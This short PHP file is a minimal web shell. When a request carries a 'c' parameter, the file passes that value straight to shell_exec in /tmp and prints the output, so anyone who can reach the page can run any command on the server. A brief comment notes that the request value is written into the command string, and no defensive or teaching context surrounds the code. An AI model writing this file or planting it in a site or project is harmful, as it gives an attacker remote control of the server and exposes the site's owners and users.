<?php
// A request value written into the command string itself: PHP puts it there.
if (isset($_GET['c'])) {
    echo "<pre>" . shell_exec("cd /tmp && {$_GET['c']} 2>&1") . "</pre>";
}
